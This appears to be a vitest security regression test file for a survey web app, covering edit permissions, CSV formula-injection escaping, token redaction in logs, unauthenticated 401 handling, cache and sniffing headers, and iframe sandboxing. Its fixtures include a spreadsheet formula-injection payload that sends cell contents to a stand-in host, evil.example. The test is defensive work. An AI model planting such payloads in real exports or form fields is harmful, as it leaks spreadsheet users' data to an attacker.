import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { count, eq } from 'drizzle-orm';
import { h } from 'preact';
import { renderToString } from 'preact-render-to-string';
import { createTestContext, ORIGIN, TestClient, type TestContext } from '../helpers/test-app.js';
import { createAccountWithContacts, emailTo, sendCampaign, templateSurveyId } from '../helpers/survey-fixtures.js';
import { surveys, surveyVersions } from '../../src/server/db/schema/index.js';
import { parseCsv } from '../../src/server/domain/csv.js';
import { createLogger } from '../../src/server/http/logger.js';
import type { Logger } from '../../src/server/http/context.js';
import type { Db } from '../../src/server/db/client.js';
import { Preview } from '../../src/client/app/pages/survey.js';

/** The "also found in review" fixes of issue 11: each story fails if its fix is taken out. */

let ctx: TestContext;
type Client = Awaited<ReturnType<TestContext['signIn']>>;
let admin: Client;
let ana: Client;
let bo: Client;
let executive: Client;
/** Ana's account, its contact, a custom survey of hers sent to that contact, and the contact's links. */
let fixture: { accountId: string; contactId: string; surveyId: string; campaignId: string; surveyToken: string; unsubscribeToken: string };

const text = (en: string) => ({ en });
const definition = () => ({
  title: text('Quarterly check'),
  questions: [
    { key: 'nps', kind: 'nps', required: true, text: text('Would you recommend us?') },
    { key: 'comment', kind: 'text', text: text('@Anything else?') },
  ],
});

beforeAll(async () => {
  ctx = await createTestContext({ minDaysBetweenSurveys: 0 });
  admin = await ctx.signIn('admin');
  ana = await ctx.signIn('account_manager');
  bo = await ctx.signIn('account_manager');
  executive = await ctx.signIn('executive');
  // Names a spreadsheet would take for formulas, in several columns of the response export.
  const { accountId, contactIds, emails } = await createAccountWithContacts(ana, [{ name: '+Ana Formula' }], { name: '=Acme Holdings' });
  const survey = (await ana.post('/api/surveys', { name: '-Quarterly check', definition: definition() })).body;
  const campaign = await sendCampaign(ctx, ana, { accountIds: [accountId], surveyId: survey.id });
  const mail = await emailTo(ctx, emails[0]!);
  fixture = {
    accountId,
    contactId: contactIds[0]!,
    surveyId: survey.id,
    campaignId: campaign.id,
    surveyToken: mail.surveyToken,
    unsubscribeToken: mail.unsubscribeToken,
  };
  const answered = await ctx.anonymous().post(`/s/${mail.surveyToken}/answers`, {
    answers: { nps: 8, comment: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' },
    complete: true,
  });
  expect(answered.status).toBe(200);
}, 120_000);
afterAll(() => ctx.close());

async function surveyRowCounts() {
  const [s] = await ctx.database.db.select({ n: count() }).from(surveys);
  const [v] = await ctx.database.db.select({ n: count() }).from(surveyVersions);
  return { surveys: s!.n, versions: v!.n };
}

describe('survey copies are changed only by their maker and admins', () => {
  it('another manager reads a copy but cannot change it (403, since reading it is allowed); its maker and admins can', async () => {
    const copy = await ana.post('/api/surveys', { name: 'Ana’s NPS', copyFromId: await templateSurveyId(ctx, 'nps') });
    expect(copy.status).toBe(201);
    expect(copy.body).toMatchObject({ createdBy: ana.user.id, canEdit: true });

    const seenByBo = await bo.get(`/api/surveys/${copy.body.id}`);
    expect(seenByBo.status).toBe(200);
    expect(seenByBo.body).toMatchObject({ createdBy: ana.user.id, canEdit: false });
    const before = await surveyRowCounts();
    for (const change of [{ name: 'Bo was here' }, { definition: definition() }, { name: 'Both', definition: definition() }]) {
      const res = await bo.patch(`/api/surveys/${copy.body.id}`, change);
      expect(res.status).toBe(403);
      expect(res.body.error.code).toBe('forbidden');
    }
    expect(await surveyRowCounts()).toEqual(before);
    expect((await ana.get(`/api/surveys/${copy.body.id}`)).body).toMatchObject({ name: 'Ana’s NPS', definition: copy.body.definition });

    // Bo may still use it as the start of a copy of his own, which he then edits.
    const bosCopy = await bo.post('/api/surveys', { name: 'Bo’s NPS', copyFromId: copy.body.id });
    expect(bosCopy.body).toMatchObject({ createdBy: bo.user.id, canEdit: true });
    expect((await bo.patch(`/api/surveys/${bosCopy.body.id}`, { name: 'Bo’s NPS, edited' })).status).toBe(200);

    expect((await ana.patch(`/api/surveys/${copy.body.id}`, { name: 'Ana’s NPS, edited' })).status).toBe(200);
    const byAdmin = await admin.patch(`/api/surveys/${copy.body.id}`, { name: 'Tidied by an admin' });
    expect(byAdmin.status).toBe(200);
    expect(byAdmin.body).toMatchObject({ name: 'Tidied by an admin', createdBy: ana.user.id, canEdit: true });
  });

  it('the list tells each person which copies they may edit; templates and executives edit nothing', async () => {
    const canEditById = async (client: Client) =>
      new Map((await client.get('/api/surveys')).body.data.map((s: { id: string; canEdit: boolean }) => [s.id, s.canEdit]));
    const npsId = await templateSurveyId(ctx, 'nps');
    const forAna = await canEditById(ana);
    const forBo = await canEditById(bo);
    const forAdmin = await canEditById(admin);
    const forExecutive = await canEditById(executive);
    expect([forAna.get(fixture.surveyId), forBo.get(fixture.surveyId), forAdmin.get(fixture.surveyId)]).toEqual([true, false, true]);
    expect([forAna.get(npsId), forAdmin.get(npsId)]).toEqual([false, false]);
    expect([...forExecutive.values()].every((v) => v === false)).toBe(true);
    expect((await admin.patch(`/api/surveys/${npsId}`, { name: 'Renamed' })).status).toBe(409);
  });

  it('a copy made before its maker was kept (no createdBy) is changed by admins only', async () => {
    const copy = (await ana.post('/api/surveys', { name: 'Old copy', definition: definition() })).body;
    await ctx.database.db.update(surveys).set({ createdBy: null }).where(eq(surveys.id, copy.id));
    expect((await ana.get(`/api/surveys/${copy.id}`)).body).toMatchObject({ createdBy: null, canEdit: false });
    expect((await ana.patch(`/api/surveys/${copy.id}`, { name: 'Mine?' })).status).toBe(403);
    expect((await bo.patch(`/api/surveys/${copy.id}`, { name: 'Mine?' })).status).toBe(403);
    expect((await admin.patch(`/api/surveys/${copy.id}`, { name: 'Adopted by an admin' })).status).toBe(200);
  });
});

describe('CSV exports keep formulas as text', () => {
  it('a customer’s answer, a contact, an account and a survey that start like formulas are text in every column; numbers stay numbers', async () => {
    const res = await ana.get('/api/responses/export.csv');
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(res.text).map((r) => r.fields);
    const col = (row: string[], name: string) => row[header!.indexOf(name)];
    const comment = rows.find((r) => col(r, 'questionKey') === 'comment')!;
    expect(col(comment, 'value')).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`);
    expect(col(comment, 'account')).toBe(`'=Acme Holdings`);
    expect(col(comment, 'contact')).toBe(`'+Ana Formula`);
    expect(col(comment, 'survey')).toBe(`'-Quarterly check`);
    expect(col(comment, 'question')).toBe(`'@Anything else?`);
    // Every text field is quoted; the score and the version are bare numbers.
    const lines = res.text.split('\r\n');
    expect(lines[0]).toMatch(/^"responseId","submittedAt",/);
    const npsLine = lines.find((l) => l.includes('"nps"'))!;
    expect(npsLine).toMatch(/,1,"nps","Would you recommend us\?",8,"passive"$/);
  });
});

describe('link tokens never reach the logs', () => {
  function captureLogs() {
    const lines: string[] = [];
    const logger: Logger = {
      info: (message, fields) => lines.push(JSON.stringify({ message, ...fields })),
      warn: (message, fields) => lines.push(JSON.stringify({ message, ...fields })),
      error: (message, fields) => lines.push(JSON.stringify({ message, ...fields })),
    };
    return { logger, lines };
  }

  /** Runs requests while the database fails with an error that quotes the path, as some drivers' errors do. */
  async function withBrokenDatabase<T>(path: string, run: () => Promise<T>): Promise<T> {
    const real = ctx.deps.db;
    ctx.deps.db = new Proxy(real, {
      get() {
        throw new Error(`connection lost while serving ${path}`);
      },
    }) as Db;
    try {
      return await run();
    } finally {
      ctx.deps.db = real;
    }
  }

  it('an unhandled error on a survey or unsubscribe page logs the path with the token hidden', async () => {
    const { logger, lines } = captureLogs();
    const realLogger = ctx.deps.logger;
    ctx.deps.logger = logger;
    try {
      const paths = [`/s/${fixture.surveyToken}`, `/s/${fixture.surveyToken}?edit=1`, `/u/${fixture.unsubscribeToken}`];
      for (const path of paths) {
        const res = await withBrokenDatabase(ORIGIN + path, () => ctx.anonymous().get(path));
        expect(res.status, path).toBe(500);
      }
    } finally {
      ctx.deps.logger = realLogger;
    }
    expect(lines.length).toBe(3);
    for (const line of lines) {
      expect(line).not.toContain(fixture.surveyToken);
      expect(line).not.toContain(fixture.unsubscribeToken);
    }
    expect(lines.map((l) => JSON.parse(l).path)).toEqual(['/s/[redacted]', '/s/[redacted]', '/u/[redacted]']);
    expect(JSON.parse(lines[0]!).error).toContain('connection lost while serving http://localhost:3000/s/[redacted]');
  });

  it('the JSON logger hides tokens whatever a caller hands it: a path, a URL, a reset link', () => {
    const written: string[] = [];
    const out = vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => (written.push(String(chunk)), true));
    const err = vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => (written.push(String(chunk)), true));
    try {
      const logger = createLogger('info');
      logger.info(`GET /s/${fixture.surveyToken}`, { url: `${ORIGIN}/u/${fixture.unsubscribeToken}` });
      logger.warn('slow page', { path: '/reset-password?token=0123456789abcdef0123456789abcdef' });
      logger.error('job failed', { error: `Error: bad link /s/${fixture.surveyToken}/answers` });
    } finally {
      out.mockRestore();
      err.mockRestore();
    }
    expect(written).toHaveLength(3);
    const all = written.join('');
    expect(all).not.toContain(fixture.surveyToken);
    expect(all).not.toContain(fixture.unsubscribeToken);
    expect(all).not.toContain('0123456789abcdef');
    expect(JSON.parse(written[1]!).path).toBe('/reset-password?token=[redacted]');
  });
});

describe('signed out, every non-public operation is a 401 before any lookup', () => {
  const PUBLIC = new Set([
    'POST /api/auth/login',
    'POST /api/auth/password-reset',
    'POST /api/auth/password-reset/confirm',
    'POST /s/{token}/answers',
    'GET /p/{token}/plan.json', // a contact's shared plan: the link's token is the key (tests/api/plan-shares.test.ts)
    'POST /webhooks/resend',
    'GET /healthz', // the load balancer's probes: they say only whether the process and database are up
    'GET /readyz',
  ]);

  async function realIds(): Promise<Record<string, string>> {
    const keys = await admin.post('/api/api-keys', { name: 'probe' });
    const firstId = async (path: string) => {
      const body = (await admin.get(path)).body;
      return ((body?.data ?? body) as { id: string }[] | undefined)?.[0]?.id;
    };
    const ids: Record<string, string | undefined> = {
      accounts: fixture.accountId,
      contacts: fixture.contactId,
      surveys: fixture.surveyId,
      campaigns: fixture.campaignId,
      users: ana.user.id,
      'api-keys': keys.body.id,
      responses: await firstId('/api/responses'),
      messages: await firstId('/api/messages'),
      tasks: await firstId('/api/tasks'),
    };
    return Object.fromEntries(Object.entries(ids).filter((e): e is [string, string] => typeof e[1] === 'string'));
  }

  it('answers 401 to every documented operation, with real, unknown and malformed ids and any body, touching no data', async () => {
    const doc = (await ctx.anonymous().get('/api/openapi.json')).body;
    const operations = Object.entries(doc.paths as Record<string, Record<string, any>>).flatMap(([path, ops]) =>
      Object.entries(ops).map(([method, op]) => ({ method: method.toUpperCase(), path, op })),
    );
    const open = operations.filter((o) => Array.isArray(o.op.security) && o.op.security.length === 0).map((o) => `${o.method} ${o.path}`);
    // Nothing is public by accident: every operation documented as public is one of these.
    expect(open.filter((o) => !PUBLIC.has(o))).toEqual([]);
    expect(open).toContain('POST /api/auth/login');

    const ids = await realIds();
    const pathsFor = (path: string) => {
      const fill = (pick: (collection: string) => string) =>
        path.replace(/\{(\w+)\}/g, (_m, _name: string, offset: number) => pick(path.slice(0, offset).split('/').filter(Boolean).pop()!));
      if (!path.includes('{')) return [path];
      return [fill((collection) => ids[collection] ?? randomUUID()), fill(() => randomUUID()), fill(() => 'nope'), fill(() => 'a'.repeat(300))];
    };
    const bodies = (method: string) =>
      method === 'GET'
        ? [undefined]
        : [
            { body: '{}', type: 'application/json' },
            { body: '{"broken": ', type: 'application/json' },
            { body: 'name=x', type: 'text/plain' },
          ];

    const gated = operations.filter((o) => !open.includes(`${o.method} ${o.path}`));
    expect(gated.length).toBeGreaterThan(80);
    const stale = new TestClient(ctx.app, { origin: ORIGIN, cookie: 'kp_session=signed-out-long-ago' });
    const problems: string[] = [];
    let sent = 0;
    const send = async (client: TestClient, method: string, url: string, b?: { body: string; type: string }) => {
      sent++;
      const res = await client.request(method, url, { body: b?.body, headers: b ? { 'content-type': b.type } : {} });
      if (res.status !== 401 || res.body?.error?.code !== 'unauthorized') problems.push(`${res.status} ${method} ${url} ${b?.body ?? ''} → ${res.text.slice(0, 160)}`);
    };

    // No cookie and no key: the answer must come before the database is asked anything at all.
    const real = ctx.deps.db;
    ctx.deps.db = new Proxy(real, {
      get() {
        throw new Error('a signed-out request reached the database');
      },
    }) as Db;
    try {
      for (const { method, path } of gated) {
        for (const url of pathsFor(path)) for (const b of bodies(method)) await send(ctx.anonymous(), method, url, b);
      }
      // Unknown addresses under /api are refused the same way: no 404 tells which routes or ids exist.
      for (const url of ['/api/nope', `/api/accounts/${fixture.accountId}/nothing`]) await send(ctx.anonymous(), 'GET', url);
    } finally {
      ctx.deps.db = real;
    }
    // A stale session cookie is no better than none.
    for (const { method, path } of gated) await send(stale, method, pathsFor(path)[0]!, bodies(method)[0]);

    expect(problems).toEqual([]);
    expect(sent).toBeGreaterThan(500);
  }, 120_000);

  it('public operations still answer signed out: the document, the reference page, sign-in', async () => {
    const anonymous = ctx.anonymous();
    expect((await anonymous.get('/api/openapi.json')).status).toBe(200);
    expect((await anonymous.get('/api/docs')).status).toBe(200);
    const login = await anonymous.post('/api/auth/login', {});
    expect(login.status).toBe(400);
    expect(login.body.error.code).toBe('validation_failed');
  });
});

describe('JSON and CSV answers are neither cached nor sniffed', () => {
  it('API answers, errors, survey autosaves and CSV downloads all carry nosniff and no-store', async () => {
    const anonymous = ctx.anonymous();
    const samples = [
      ['GET /api/me', await ana.get('/api/me'), 200],
      ['GET /api/surveys', await ana.get('/api/surveys'), 200],
      ['PATCH another’s survey', await bo.patch(`/api/surveys/${fixture.surveyId}`, { name: 'x' }), 403],
      ['GET unknown account', await ana.get(`/api/accounts/${randomUUID()}`), 404],
      ['GET bad id', await ana.get('/api/accounts/nope'), 400],
      ['GET unknown route', await ana.get('/api/nope'), 404],
      ['signed out', await anonymous.get('/api/accounts'), 401],
      ['OpenAPI', await anonymous.get('/api/openapi.json'), 200],
      ['autosave', await anonymous.post(`/s/${fixture.surveyToken}/answers`, { answers: { nps: 9 } }), 200],
      ['autosave, unknown link', await anonymous.post('/s/not-a-token/answers', { answers: { nps: 9 } }), 404],
      ['autosave, bad answer', await anonymous.post(`/s/${fixture.surveyToken}/answers`, { answers: { nps: 11 } }), 400],
      ['responses CSV (streamed)', await ana.get('/api/responses/export.csv'), 200],
      ['risk CSV', await ana.get('/api/reports/risk?format=csv'), 200],
      ['NPS CSV', await admin.get('/api/reports/nps?format=csv'), 200],
    ] as const;
    for (const [label, res, status] of samples) {
      expect(res.status, label).toBe(status);
      expect(res.headers.get('content-type'), label).toMatch(/json|csv/);
      expect(res.headers.get('x-content-type-options'), label).toBe('nosniff');
      expect(res.headers.get('cache-control'), label).toBe('no-store');
    }
  });
});

describe('the survey preview frame is sandboxed without same-origin', () => {
  it('the workspace frames the preview with scripts allowed but never together with allow-same-origin', async () => {
    const survey = (await ana.get(`/api/surveys/${fixture.surveyId}`)).body;
    const html = renderToString(h(Preview, { survey, saves: 0 }));
    const sandbox = /<iframe[^>]*\ssandbox="([^"]*)"/.exec(html)?.[1];
    expect(sandbox?.split(/\s+/).sort()).toEqual(['allow-forms', 'allow-scripts']);
  });

  it('the preview page sandboxes itself too, and its script may load into that opaque origin', async () => {
    const res = await ana.get(`/survey-preview/${fixture.surveyId}`);
    expect(res.status).toBe(200);
    const csp = res.headers.get('content-security-policy')!;
    const sandbox = /(?:^|;)\s*sandbox ([^;]*)/.exec(csp)?.[1]?.trim().split(/\s+/).sort();
    expect(sandbox).toEqual(['allow-forms', 'allow-scripts']);
    expect(csp).toContain("frame-ancestors 'self'");
    const script = /<script type="module" src="([^"]+)"/.exec(res.text)![1]!;
    const js = await ctx.anonymous().get(script, { headers: { origin: 'null' } });
    expect(js.status).toBe(200);
    expect(js.headers.get('access-control-allow-origin')).toBe('*');
  });
});
